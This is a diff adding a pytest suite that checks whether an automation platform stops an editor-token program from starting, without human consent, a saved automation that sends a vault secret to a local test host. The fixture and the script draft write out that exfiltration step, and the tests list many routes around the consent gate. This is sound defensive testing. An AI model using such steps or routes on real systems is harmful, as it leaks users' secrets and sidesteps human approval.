@@ -1,0 +1,341 @@
+"""Only a person agrees: every way in which one editor's token could start what nobody has seen.
+
+A program saves an automation that sends its member's secret to a host of its choice, and tries
+each way to set it going. Nothing is sent, and each refusal says what a person has to agree to.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, replace
+from typing import Any
+from uuid import UUID
+
+import pytest
+import pytest_asyncio
+
+from mainspring.contracts.roles import Role
+from mainspring.wiring import build_house
+from mainspring.workspace.automations import FIRST_MEMBER
+from tests.kit.api import Api, served
+from tests.kit.house import Bench, document, step
+from tests.kit.outside import local_server
+from tests.kit.people import ROOT, token_of
+
+SECRET = "s3cr3t-value-42"
+DAILY = {"id": "daily", "type": "schedule", "config": {"cron": "0 9 * * *", "timezone": "UTC"}}
+HOOK = {"id": "hook", "type": "webhook", "config": {}}
+
+
+@dataclass(slots=True)
+class Siege:
+    """A served house with a secret, a host outside, and a program with one editor's token."""
+
+    api: Api
+    bench: Bench
+    pair: str
+    sent: list[bytes]
+    token: dict[str, str]
+
+    async def ask(self, method: str, path: str, body: Any = None) -> tuple[int, Any]:
+        """What the program is answered."""
+        answer = await self.api.stranger.request(
+            method, f"{ROOT}{path}", json=body, headers=self.token
+        )
+        return answer.status_code, answer.json() if answer.content else None
+
+    async def call(self, capability: str, **given: Any) -> tuple[int, Any]:
+        return await self.ask("POST", f"/capabilities/{capability}", given)
+
+    async def person(self, method: str, path: str, body: Any = None) -> tuple[int, Any]:
+        answer = await self.api.client.request(method, f"{ROOT}{path}", json=body)
+        return answer.status_code, answer.json() if answer.content else None
+
+    def thief(self, name: str = "thief", *triggers: Any, **more: Any) -> dict[str, Any]:
+        """A plan that sends the member's secret away."""
+        config = {
+            "url": f"http://{self.pair}/collect",
+            "headers": {"Authorization": "Bearer {{ secrets.hook_token }}"},
+        }
+        return document(
+            step("send", "http_fetch", config), name=name, triggers=list(triggers), **more
+        )
+
+    async def saved(self, *triggers: Any) -> str:
+        status, made = await self.ask("POST", "/automations", self.thief("thief", *triggers))
+        assert status == 201, made
+        return str(made["id"])
+
+    async def ended(self, run_id: str) -> dict[str, Any]:
+        async with self.bench.worker():
+            return await self.bench.until(UUID(run_id))
+
+    def check_refused(self, answer: tuple[int, Any]) -> None:
+        """Refused, with each thing to agree to and where a person does so."""
+        status, problem = answer
+        assert (status, problem["code"]) == (409, "consent_needed"), problem
+        said = [one["detail"] for one in problem["errors"]]
+        assert any(self.pair.partition(":")[0] in one for one in said), said
+        assert any("hook_token" in one for one in said), said
+        consent = problem["consent"]
+        assert [one["says"] for one in consent["additions"]] == said
+        assert consent["url"].startswith("http")
+        assert consent["url"] in problem["suggestion"]
+
+    async def check_nothing_sent(self) -> None:
+        assert not any(SECRET.encode() in one for one in self.sent), self.sent
+        live = await self.bench.house.database.fetchval(
+            "SELECT count(*) FROM runs WHERE mode <> 'dry_run'"
+        )
+        assert live == 0
+
+
+@asynccontextmanager
+async def _besieged(bench: Bench) -> AsyncIterator[Siege]:
+    sent: list[bytes] = []
+
+    async def receive(request: bytes, writer: asyncio.StreamWriter) -> None:
+        sent.append(request)
+        body = json.dumps({"ok": True}).encode()
+        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n")
+        writer.write(b"Content-Length: %d\r\n\r\n" % len(body) + body)
+
+    async with local_server(receive) as server:
+        pair = f"127.0.0.1:{server.port}"
+        settings = replace(bench.house.settings, egress_allow=frozenset({pair}))
+        house = build_house(
+            settings, bench.house.limits, bench.house.registry, bench.house.database,
+            bench.house.workshop,
+        )  # fmt: skip
+        here = Bench(house, bench.outside)
+        await house.vault.set(here.drawer, "hook_token", SECRET)
+        async with served(house, own_app=True) as api:
+            token = await token_of(
+                house.database, house.workspace_id, FIRST_MEMBER, role=Role.EDITOR
+            )
+            yield Siege(api, here, pair, sent, token)
+        await house.waker.aclose()
+        await house.egress.aclose()
+
+
+@pytest_asyncio.fixture
+async def siege(bench: Bench) -> AsyncIterator[Siege]:
+    async with _besieged(bench) as made:
+        yield made
+
+
+async def test_what_a_program_saved_over_rest_is_not_activated_by_it(siege: Siege) -> None:
+    made = await siege.saved(DAILY)
+    siege.check_refused(await siege.ask("POST", f"/automations/{made}/activate"))
+    siege.check_refused(await siege.call("update_automation", automation_id=made, state="active"))
+    await siege.check_nothing_sent()
+
+
+async def test_what_a_program_saved_over_rest_is_not_run_live_by_it(siege: Siege) -> None:
+    made = await siege.saved()
+    siege.check_refused(await siege.ask("POST", f"/automations/{made}/run", {}))
+    siege.check_refused(await siege.ask("POST", f"/automations/{made}/run", {"verify_mode": True}))
+    siege.check_refused(await siege.call("run_automation_once", automation_id=made, dry_run=False))
+    await siege.check_nothing_sent()
+
+
+async def test_a_script_that_a_program_drafted_is_not_set_going_by_it(siege: Siege) -> None:
+    host = siege.pair.partition(":")[0]
+    source = (
+        'import { brains } from "https://brains/sdks/automation-sdk-v1.ts";\n'
+        "return await brains.http_fetch({\n"
+        f'  url: "http://{siege.pair}/collect",\n'
+        '  headers: { Authorization: "Bearer {{secrets.hook_token}}" },\n'
+        "});\n"
+    )
+    status, made = await siege.call(
+        "save_automation_draft", name="thief", source=source,
+        triggers=[{"kind": "cron", "cron": "0 9 * * *", "tz": "UTC"}],
+        tool_grants=[{"tool": "http_fetch", "params": {"hosts": [siege.pair]}}],
+        # Filled in by a program it acknowledges nothing.
+        acknowledged_http_fetch_hosts=[siege.pair, host],
+    )  # fmt: skip
+    assert status == 200, made
+    assert made["consent"]["additions"]
+    one = made["automation_id"]
+    siege.check_refused(await siege.call("update_automation", automation_id=one, state="active"))
+    siege.check_refused(await siege.ask("POST", f"/automations/{one}/activate"))
+    siege.check_refused(await siege.call("run_automation_once", automation_id=one, dry_run=False))
+    await siege.check_nothing_sent()
+
+
+async def test_a_dry_run_works_before_anybody_agreed_and_sends_no_secret(siege: Siege) -> None:
+    made = await siege.saved()
+    status, run = await siege.ask("POST", f"/automations/{made}/run", {"dry_run": True})
+    assert status == 202, run
+    ended = await siege.ended(run["run_id"])
+    assert ended["status"] == "succeeded", ended["error"]
+    assert siege.sent == []
+    await siege.check_nothing_sent()
+    # What carries no secret is read, so that a plan can be tried out.
+    plain = document(
+        step("read", "http_fetch", {"url": f"http://{siege.pair}/prices"}), name="plain"
+    )
+    _, other = await siege.ask("POST", "/automations", plain)
+    status, run = await siege.ask("POST", f"/automations/{other['id']}/run", {"dry_run": True})
+    assert status == 202, run
+    assert (await siege.ended(run["run_id"]))["status"] == "succeeded"
+    assert siege.sent[0].startswith(b"GET /prices ")
+
+
+async def test_a_dry_run_is_not_replayed_live_by_a_program(siege: Siege) -> None:
+    made = await siege.saved()
+    _, run = await siege.ask("POST", f"/automations/{made}/run", {"dry_run": True})
+    await siege.ended(run["run_id"])
+    for version in ("same", "active"):
+        body = {"version": version, "mode": "live"}
+        siege.check_refused(await siege.ask("POST", f"/runs/{run['run_id']}/replay", body))
+    await siege.check_nothing_sent()
+
+
+async def test_a_webhook_with_a_token_that_a_program_made_starts_nothing(siege: Siege) -> None:
+    made = await siege.saved(HOOK)
+    status, token = await siege.ask("POST", f"/automations/{made}/triggers/hook/token")
+    assert status == 201, token
+    shown = {"Authorization": f"Bearer {token['token']}"}
+    fired = await siege.api.stranger.post(f"{ROOT}/automations/{made}/fire", json={}, headers=shown)
+    async with siege.bench.worker():
+        if fired.status_code == 202:
+            run = await siege.bench.until(UUID(fired.json()["run_id"]))
+            assert run["status"] == "skipped", run
+    assert siege.sent == []
+
+
+async def test_a_program_restores_and_switches_on_and_nothing_starts(siege: Siege) -> None:
+    made = await siege.saved({**DAILY, "enabled": False})
+    place = f"/automations/{made}"
+    assert (await siege.ask("POST", f"{place}/archive"))[0] == 200
+    assert (await siege.ask("POST", f"{place}/restore"))[0] == 200
+    status, _ = await siege.ask("PATCH", f"{place}/triggers/daily", {"enabled": True})
+    assert status == 200
+    siege.check_refused(await siege.ask("POST", f"{place}/activate"))
+    await siege.check_nothing_sent()
+
+
+async def test_a_program_does_not_go_back_to_what_nobody_agreed_to(siege: Siege) -> None:
+    made = await siege.saved(DAILY)
+    place = f"/automations/{made}"
+    harmless = document(
+        step("note", "transform_data", {"output": "x"}), name="thief", triggers=[DAILY]
+    )
+    status, saved = await siege.person("PUT", place, harmless)
+    assert status == 200, saved
+    status, shown = await siege.person("GET", f"/consents?automation_id={made}")
+    for one in shown["consents"]:
+        answer = {"digest": one["digest"], "agree": True}
+        assert (await siege.person("POST", f"/consents/{one['consent_id']}/answer", answer))[
+            0
+        ] == 200
+    assert (await siege.person("POST", f"{place}/activate"))[0] == 200
+    status, back = await siege.ask("POST", f"{place}/rollback", {"version": 1})
+    assert (status, back["state"]) == (200, "paused"), back
+    siege.check_refused(await siege.ask("POST", f"{place}/activate"))
+    siege.check_refused(await siege.ask("POST", f"{place}/run", {}))
+    await siege.check_nothing_sent()
+
+
+async def test_a_program_replays_no_version_that_a_person_has_narrowed(siege: Siege) -> None:
+    """The owner's token is still a program: an old version is not its way back."""
+    status, made = await siege.person("POST", "/automations", siege.thief())
+    assert status == 201
+    place = f"/automations/{made['id']}"
+    _, run = await siege.person("POST", f"{place}/run", {})
+    assert (await siege.ended(run["run_id"]))["status"] == "succeeded"
+    assert len(siege.sent) == 1
+    harmless = document(step("note", "transform_data", {"output": "x"}), name="thief")
+    assert (await siege.person("PUT", place, harmless))[0] == 200
+    siege.check_refused(await siege.ask("POST", f"/runs/{run['run_id']}/replay", {}))
+    assert len(siege.sent) == 1
+    # A person may.
+    status, again = await siege.person("POST", f"/runs/{run['run_id']}/replay", {})
+    assert status == 202, again
+
+
+async def test_a_program_retries_no_version_that_a_person_has_narrowed(siege: Siege) -> None:
+    status, made = await siege.person("POST", "/automations", siege.thief())
+    assert status == 201
+    place = f"/automations/{made['id']}"
+    _, run = await siege.person("POST", f"{place}/run", {})
+    assert (await siege.person("POST", f"/runs/{run['run_id']}/cancel"))[0] == 202
+    harmless = document(step("note", "transform_data", {"output": "x"}), name="thief")
+    assert (await siege.person("PUT", place, harmless))[0] == 200
+    siege.check_refused(await siege.ask("POST", f"/runs/{run['run_id']}/retry"))
+    assert siege.sent == []
+
+
+async def test_a_workflow_that_a_program_switches_on_starts_nothing(siege: Siege) -> None:
+    made = await siege.saved(DAILY)
+    status, flow = await siege.call("create_workflow", title="Flow", automation_ids=[made])
+    assert status == 200, flow
+    status, on = await siege.call("set_workflow_status", workflow_id=flow["id"], status="active")
+    assert status == 200, on
+    _, shown = await siege.ask("GET", f"/automations/{made}")
+    assert shown["state"] == "paused"
+    templates = {"make_board": True, "templates": ["progress_scorer"]}
+    status, flow = await siege.call("create_workflow", title="Made", **templates)
+    assert status == 200, flow
+    await siege.call("set_workflow_status", workflow_id=flow["id"], status="active")
+    active = await siege.bench.house.database.fetch(
+        "SELECT name FROM automations WHERE state = 'active'"
+    )
+    assert active == []
+
+
+async def test_an_approval_step_is_answered_by_a_person_alone(siege: Siege) -> None:
+    plan = document(step("ask", "approval", {"title": "May it?"}), name="asks")
+    _, made = await siege.person("POST", "/automations", plan)
+    _, run = await siege.person("POST", f"/automations/{made['id']}/run", {})
+    async with siege.bench.worker():
+        await siege.bench.until(UUID(run["run_id"]), "waiting")
+        _, waiting = await siege.person("GET", "/approvals")
+        (question,) = waiting["approvals"]
+        place = f"/approvals/{question['approval_id']}/answer"
+        status, problem = await siege.ask("POST", place, {"decision": "approved"})
+        assert (status, problem["code"]) == (403, "person_needed")
+        assert "/inbox" in problem["suggestion"]
+        assert (await siege.person("POST", place, {"decision": "approved"}))[0] == 200
+        ended = await siege.bench.until(UUID(run["run_id"]))
+    assert ended["status"] == "succeeded"
+
+
+@pytest.mark.parametrize("way", ["activate", "run"])
+async def test_a_person_is_shown_first_what_a_program_wrote(siege: Siege, way: str) -> None:
+    """One answer with the digest agrees and goes on; a digest of something else does not."""
+    made = await siege.saved(DAILY)
+    place = f"/automations/{made}"
+    status, problem = await siege.person("POST", f"{place}/{way}")
+    assert (status, problem["code"]) == (409, "consent_needed")
+    digest = problem["consent"]["digest"]
+    status, wrong = await siege.person("POST", f"{place}/{way}", {"digest": "0" * 64})
+    assert (status, wrong["code"]) == (409, "consent_changed")
+    # A program that knows the digest is still a program.
+    siege.check_refused(await siege.ask("POST", f"{place}/{way}", {"digest": digest}))
+    status, done = await siege.person("POST", f"{place}/{way}", {"digest": digest})
+    assert status in (200, 202), done
+    _, shown = await siege.person("GET", place)
+    assert shown["agreed"]["via"] == "page"
+    assert shown["agreed"]["version"] == shown["version"]
+    assert shown["state"] == ("active" if way == "activate" else "paused")
+
+
+async def test_a_person_who_creates_edits_and_runs_is_asked_nothing(siege: Siege) -> None:
+    status, made = await siege.person("POST", "/automations", siege.thief("own", DAILY))
+    assert (status, made["consent"]) == (201, None)
+    place = f"/automations/{made['id']}"
+    changed = {**siege.thief("own", DAILY, HOOK), "goal": "More."}
+    status, saved = await siege.person("PUT", place, changed)
+    assert (status, saved["consent"]) == (200, None)
+    assert (await siege.person("POST", f"{place}/activate"))[0] == 200
+    assert (await siege.person("POST", f"{place}/run"))[0] == 202
+    # And a program may start what a person has agreed to.
+    assert (await siege.ask("POST", f"{place}/run"))[0] == 202
+    assert (await siege.ask("POST", f"{place}/pause"))[0] == 200
+    assert (await siege.ask("POST", f"{place}/activate"))[0] == 200
